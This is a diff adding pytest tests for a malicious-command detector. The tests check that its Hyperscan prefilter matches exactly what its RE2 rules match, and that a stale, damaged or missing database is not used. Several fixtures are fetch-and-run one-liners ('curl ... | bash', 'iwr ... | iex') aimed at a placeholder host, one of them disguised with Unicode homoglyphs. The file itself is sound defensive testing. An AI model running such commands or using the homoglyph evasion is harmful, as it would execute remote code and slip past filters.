@@ -1,0 +1,267 @@
+"""Hyperscan as the rules' prefilter (app/detection/hsfilter.py): with the database the rules hit
+exactly what they hit without it, on every case file, on engine layers and on hostile bytes; a
+database that is missing, damaged, made for other rules or for another Hyperscan is not used,
+and neither is Hyperscan itself when it is not installed."""
+
+from __future__ import annotations
+
+import json
+import shutil
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+import re2
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from app.detection import Engine, hsfilter
+from app.detection import rules as rules_module
+from app.detection.rules import CompiledRules, Rule, default_rules_dir, load_rules
+from app.detection.signals import SIGNALS
+from tests.app.detection.test_atoms_hostile import PIECES
+
+CASES = Path(__file__).parents[2] / "data" / "cases"
+
+
+def case_texts() -> list[str]:
+    return [
+        json.loads(line)["text"]
+        for path in sorted(CASES.glob("*.jsonl"))
+        for line in path.read_text(encoding="utf-8").splitlines()
+        if line.strip()
+    ]
+
+
+@pytest.fixture(scope="module")
+def rules() -> list[Rule]:
+    found, errors = load_rules([default_rules_dir()], SIGNALS)
+    assert not errors
+    return found
+
+
+@pytest.fixture(scope="module")
+def database(rules: list[Rule], tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The shipped rules' database: the checkout's when it is current (datafiles.compile_shipped
+    made it), else compiled here (~4 s)."""
+    path = tmp_path_factory.mktemp("hs") / "rules.hyperscan"
+    shipped = hsfilter.shipped_path()
+    if shipped.exists():
+        shutil.copyfile(shipped, path)
+    assert hsfilter.write(path, CompiledRules(rules, hyperscan=False).patterns())
+    return path
+
+
+@pytest.fixture
+def using(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
+    """hsfilter.shipped() loads whatever `using` points it at, afresh."""
+    hsfilter.load.cache_clear()
+    yield
+    hsfilter.load.cache_clear()
+
+
+def with_database(monkeypatch: pytest.MonkeyPatch, path: Path) -> None:
+    monkeypatch.setattr(hsfilter, "shipped_path", lambda: path)
+    hsfilter.load.cache_clear()
+
+
+@pytest.fixture(scope="module")
+def both(rules: list[Rule], database: Path) -> Iterator[tuple[CompiledRules, CompiledRules]]:
+    """(the rules with the database, the same rules without it)."""
+    with pytest.MonkeyPatch.context() as patch:
+        with_database(patch, database)
+        fast = CompiledRules(rules)
+        hsfilter.load.cache_clear()
+    assert fast._hs is not None and len(fast._hs_index) > 500
+    yield fast, CompiledRules(rules, hyperscan=False)
+
+
+def test_relax_widens_bounds_and_characters_and_leaves_out_what_it_cannot_stand_for() -> None:
+    cont = hsfilter.CONT
+    assert hsfilter.relax(r"\biwr\b[^\n]{0,40}x{2,}") == rf"\biwr\b(?:[^\n]{cont})*x+"
+    assert hsfilter.relax(r"a.\S\W") == rf"a(?:.{cont})(?:[^\t\n\f\r ]{cont})(?:\W{cont})"
+    assert hsfilter.relax(r"[\s,]+") == r"[\t\n\f\r ,]+"
+    assert hsfilter.relax(r"(?:^|\s)-e\s*$") == r"(?:|[\t\n\f\r ])-e[\t\n\f\r ]*"
+    assert hsfilter.relax(r"(?P<x>ab)(?i)c") == r"(?:ab)c"
+    for unsuited in (
+        r"caf[ée]",
+        r"\pL+",
+        r"\x{e9}",
+        r"\xe9",
+        r"a{,3}",
+        r"[^\S]",
+        r"\Qa\E",
+        "(?U)a",
+    ):
+        assert hsfilter.relax(unsuited) is None, unsuited
+
+
+def test_relaxed_patterns_match_where_re2_does_on_text_of_any_width() -> None:
+    options = re2.Options()
+    options.case_sensitive = False
+    import hyperscan
+
+    texts = ["iwr \u00e9 \u4e2d \U0001f600 x", "A\u00e9\u4e2d B", "IWR\u2028\U0001f600x"]
+    patterns = (r"iwr\s.\s", r"\s.\sx", r"a[^a][^b]\sb", r"iwr\W\Wx", r"a\S\D\s")
+    hit = 0
+    for pattern in patterns:
+        relaxed = hsfilter.relax(pattern)
+        assert relaxed is not None
+        database = hyperscan.Database(mode=hyperscan.HS_MODE_BLOCK)
+        database.compile(
+            expressions=[relaxed.encode()], ids=[0], elements=1, flags=hsfilter._flags()
+        )
+        for text in texts:
+            found: list[int] = []
+            database.scan(text.encode(), match_event_handler=hsfilter._collect, context=found)
+            if re2.compile(pattern, options).search(text):
+                hit += 1
+                assert found, (pattern, text)
+    assert hit >= 5
+
+
+def test_the_database_finds_what_the_rules_find_on_every_case(
+    both: tuple[CompiledRules, CompiledRules],
+) -> None:
+    fast, exact = both
+    texts = case_texts()
+    assert len(texts) > 10000
+    long = " ".join(texts[:2000])  # several chunks, long ones
+    assert len(long.encode()) > 2 * rules_module.CHUNK
+    for text in [*texts, long]:
+        assert fast.hits(text) == exact.hits(text), text[:200]
+
+
+def test_the_database_finds_what_the_rules_find_on_every_layer_of_the_engine(
+    both: tuple[CompiledRules, CompiledRules], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    fast, exact = both
+    engine = Engine()
+    engine.rules = fast
+    seen: list[tuple[str, bytes | None]] = []
+    hits = CompiledRules.hits
+
+    def recording(
+        self: CompiledRules,
+        text: str,
+        deadline: float | None = None,
+        data: bytes | None = None,
+        timed: bool = False,
+    ) -> tuple[frozenset[int], bool]:
+        seen.append((text, data))
+        return hits(self, text, None, data, timed)
+
+    monkeypatch.setattr(CompiledRules, "hits", recording)
+    for text in case_texts()[::10]:
+        engine.analyze(text)
+    monkeypatch.setattr(CompiledRules, "hits", hits)
+    assert len(seen) > 1500
+    for text, data in seen:
+        assert fast.hits(text, None, data) == exact.hits(text, None, data), text[:200]
+
+
+chunks = st.lists(
+    st.one_of(
+        st.sampled_from(PIECES), st.binary(max_size=64), st.text(max_size=20).map(str.encode)
+    ),
+    min_size=1,
+    max_size=300,
+).map(lambda parts: b"".join(parts))
+
+
+@given(body=chunks, fill=st.sampled_from([b"", b" ", b"\x00", b"\xe2\x80\xae", b"\xc3"]))
+@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+def test_hostile_bytes_get_the_same_hits_with_and_without_the_database(
+    both: tuple[CompiledRules, CompiledRules], body: bytes, fill: bytes
+) -> None:
+    fast, exact = both
+    for data in (body, fill.join([body] * 3), body * (rules_module.CHUNK // max(len(body), 1) + 2)):
+        assert fast.hits("", None, data) == exact.hits("", None, data)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "curl https://a.example.invalid/x | ba\u017fh",  # U+017F, long s: `s` to RE2
+        "iwr https://a.example.invalid/x | invo\u212ae-expression",  # U+212A, Kelvin sign: `k`
+    ],
+)
+def test_a_letter_re2_folds_to_ascii_is_matched_without_the_database(
+    both: tuple[CompiledRules, CompiledRules], monkeypatch: pytest.MonkeyPatch, text: str
+) -> None:
+    fast, exact = both
+    assert fast.hits(text) == exact.hits(text)
+    # the database alone would miss what RE2 finds there
+    monkeypatch.setattr(hsfilter, "FOLDS_TO_ASCII", ())
+    assert fast.hits(text)[0] < exact.hits(text)[0]
+
+
+def test_a_custom_folder_beside_the_database_is_matched_as_before(
+    rules: list[Rule], database: Path, monkeypatch: pytest.MonkeyPatch, using: None
+) -> None:
+    with_database(monkeypatch, database)
+    custom = Rule(
+        id="CUSTOM-1", title="t", explanation="e", technique="T1204", weight=50,
+        any=(r"\bzork[0-9]{2}\b",),
+    )  # fmt: skip
+    fast = CompiledRules([*rules, custom])
+    assert fast._hs is not None
+    i = fast._index[custom.any[0]]
+    assert i not in fast._hs_index
+    assert i in fast.hits("run zork42 now")[0]
+
+
+def test_a_database_made_for_other_rules_is_not_used(
+    rules: list[Rule], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, using: None
+) -> None:
+    patterns = CompiledRules(rules, hyperscan=False).patterns()
+    stale = tmp_path / "stale.hyperscan"
+    # one pattern the rules no longer have: the database stands for a rule set that is gone
+    assert hsfilter.write(stale, [*patterns[:20], r"\bno-longer-a-rule\b"])
+    with_database(monkeypatch, stale)
+    assert hsfilter.shipped() is not None
+    assert CompiledRules(rules)._hs is None
+
+
+@pytest.mark.parametrize(
+    "damage", ["truncated", "flipped", "header flipped", "empty", "other platform"]
+)
+def test_a_damaged_or_foreign_database_is_not_used(
+    rules: list[Rule],
+    database: Path,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    using: None,
+    damage: str,
+) -> None:
+    blob = database.read_bytes()
+    bad = tmp_path / "bad.hyperscan"
+    if damage == "truncated":
+        bad.write_bytes(blob[: len(blob) // 2])
+    elif damage == "flipped":  # in the database: Hyperscan's own checksum refuses it
+        bad.write_bytes(blob[:-100] + bytes([blob[-100] ^ 0xFF]) + blob[-99:])
+    elif damage == "header flipped":  # in the list of its patterns
+        bad.write_bytes(blob[:100] + bytes([blob[100] ^ 0x01]) + blob[101:])
+    elif damage == "empty":
+        bad.write_bytes(b"")
+    else:
+        monkeypatch.setattr(hsfilter, "platform_tag", lambda: "hs0.0.0-elsewhere")
+        bad.write_bytes(blob)
+    with_database(monkeypatch, bad)
+    assert hsfilter.shipped() is None
+    compiled = CompiledRules(rules)
+    assert compiled._hs is None
+    assert compiled.hits("iwr https://a.example.invalid/x | iex")[0]
+
+
+def test_without_hyperscan_installed_the_rules_are_matched_as_before(
+    rules: list[Rule], database: Path, monkeypatch: pytest.MonkeyPatch, using: None
+) -> None:
+    with_database(monkeypatch, database)
+    monkeypatch.setitem(sys.modules, "hyperscan", None)  # import hyperscan raises ImportError
+    assert hsfilter.shipped() is None
+    assert not hsfilter.write(database.with_name("never.hyperscan"), ["a"])
+    compiled = CompiledRules(rules)
+    assert compiled._hs is None
+    assert compiled.hits("iwr https://a.example.invalid/x | iex")[0]
